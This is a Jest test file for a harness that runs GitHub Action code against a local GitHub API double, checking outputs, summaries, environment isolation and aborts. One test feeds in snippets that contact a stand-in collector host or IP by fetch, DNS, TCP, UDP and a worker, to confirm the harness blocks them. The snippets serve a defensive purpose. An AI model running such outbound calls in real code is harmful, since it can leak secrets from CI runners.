import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeEach, expect, test } from '@jest/globals';
import { type GitHubDouble, startDouble } from '../github-double/double.ts';
import { createWorld } from '../github-double/world.ts';
import { pullRequestEvent } from './events.ts';
import { readOutputs, runAction } from './run-action.ts';
import { runCli } from './run-cli.ts';

const folder = mkdtempSync(join(tmpdir(), 'preflight-entry-'));
afterAll(() => rmSync(folder, { recursive: true }));

/** An action that tells what it was given, writes each command file, and asks the API once. */
const PROBE = `
import { appendFileSync, readFileSync, writeFileSync } from 'node:fs';
const env = process.env;
const event = JSON.parse(readFileSync(env.GITHUB_EVENT_PATH, 'utf8'));
const pull = await fetch(env.GITHUB_API_URL + '/repos/' + env.GITHUB_REPOSITORY + '/pulls/' + event.number, {
  headers: { authorization: 'Bearer ' + env['INPUT_GITHUB-TOKEN'] },
});
const report = env.RUNNER_TEMP + '/report.json';
writeFileSync(report, JSON.stringify({ title: (await pull.json()).title }));
appendFileSync(env.GITHUB_OUTPUT, 'verdict=pass\\nlong<<END\\none\\ntwo\\nEND\\nreport-json=' + report + '\\n');
appendFileSync(env.GITHUB_STEP_SUMMARY, '## Fine\\n');
console.log(JSON.stringify(env));
console.error('::warning::look');
process.exitCode = 3;
`;

function entry(source: string): string {
  const path = join(folder, `entry-${Math.random().toString(36).slice(2)}.mjs`);
  writeFileSync(path, source);
  return path;
}

let double: GitHubDouble;
beforeEach(async () => {
  double = await startDouble(createWorld({ pulls: [{ number: 7, title: 'Contoso', author: 'bob', changes: { 'a.json': '{}' } }] }));
});
afterEach(async () => {
  double.assertClean();
  await double.close();
});

test('an action gets its event, token and API as from a runner, and everything it wrote comes back', async () => {
  const result = await runAction({
    double,
    event: pullRequestEvent(double.world, 7, 'opened'),
    entry: entry(PROBE),
    inputs: { publish: 'false' },
  });
  expect(result).toMatchObject({
    exitCode: 3,
    stderr: '::warning::look\n',
    summary: '## Fine\n',
    outputs: { verdict: 'pass', long: 'one\ntwo' },
    report: { title: 'Contoso' },
  });
  expect(JSON.parse(result.stdout)).toMatchObject({
    GITHUB_ACTIONS: 'true',
    GITHUB_EVENT_NAME: 'pull_request_target',
    GITHUB_REPOSITORY: 'contoso/PowerPlatformConnectors',
    'INPUT_GITHUB-TOKEN': double.token,
    INPUT_PUBLISH: 'false',
    INPUT_MODE: '',
  });
  expect(double.requests).toMatchObject([{ operation: 'pulls/get', token: double.token, status: 200 }]);
});

test('nothing of the environment of the tests reaches the action', async () => {
  process.env.PREFLIGHT_SECRET = 'not yours';
  const { stdout } = await runAction({ double, event: pullRequestEvent(double.world, 7, 'opened'), entry: entry(PROBE) });
  delete process.env.PREFLIGHT_SECRET;
  expect(stdout).not.toContain('not yours');
});

test.each([
  ['a request', `await fetch('https://collector.example/?t=1').catch(() => undefined);`, 'collector.example'],
  ['the look-up of a name', `import dns from 'node:dns'; dns.resolveTxt('t.collector.example', () => {});`, 't.collector.example'],
  ['a connection to an address', `import net from 'node:net'; net.connect(443, '203.0.113.7');`, '203.0.113.7'],
  ['a datagram', `import dgram from 'node:dgram'; dgram.createSocket('udp4').send('t', 53, '203.0.113.7');`, '203.0.113.7'],
  [
    'one of a worker',
    `import { Worker } from 'node:worker_threads'; new Worker("fetch('https://collector.example').catch(() => {})", { eval: true });`,
    'collector.example',
  ],
])('%s to another machine than the double does not go out and is told', async (_name, source, host) => {
  await expect(runCli([], { entry: entry(source) })).rejects.toThrow(`other machines than the double:\n${host}`);
});

test('an action can be killed in the middle of a request', async () => {
  const abort = new AbortController();
  double.on({ operation: 'pulls/get' }, () => {
    abort.abort();
    return { kind: 'hang' };
  });
  const result = await runAction({ double, event: pullRequestEvent(double.world, 7, 'opened'), entry: entry(PROBE), abort: abort.signal });
  expect(result).toMatchObject({ exitCode: null, signal: 'SIGKILL', outputs: {}, summary: '' });
});

test('a command line gets its parameters and its input', async () => {
  const echo = entry(`process.stdin.pipe(process.stdout); console.error(process.argv.slice(2).join('|'));`);
  expect(await runCli(['check', 'a b'], { entry: echo, stdin: 'text' })).toMatchObject({
    exitCode: 0,
    stdout: 'text',
    stderr: 'check|a b\n',
  });
});

test('an output file with an end mark that never comes is refused', () => {
  expect(() => readOutputs('a<<END\none\n')).toThrow('no end mark');
});
